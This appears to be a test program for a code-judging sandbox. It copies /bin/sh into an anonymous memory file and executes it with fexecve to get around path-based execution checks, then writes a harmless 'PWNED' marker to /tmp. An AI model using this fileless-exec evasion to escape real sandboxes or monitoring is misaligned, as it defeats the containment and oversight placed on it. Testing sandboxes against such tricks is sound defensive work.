#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>

/* Copies /bin/sh into an anonymous file and runs that, to dodge path checks. */
int main(void)
{
	char buf[65536];
	char *argv[] = { "sh", "-c", "echo PWNED; echo PWNED >/tmp/judge-e2e-pwned", NULL };
	char *envp[] = { NULL };
	int mfd = memfd_create("x", 0), in = open("/bin/sh", O_RDONLY);
	ssize_t n;

	if (mfd < 0)
		return 1;
	while (in >= 0 && (n = read(in, buf, sizeof(buf))) > 0)
		if (write(mfd, buf, (size_t)n) != n)
			return 2;
	fexecve(mfd, argv, envp);
	return 3;
}
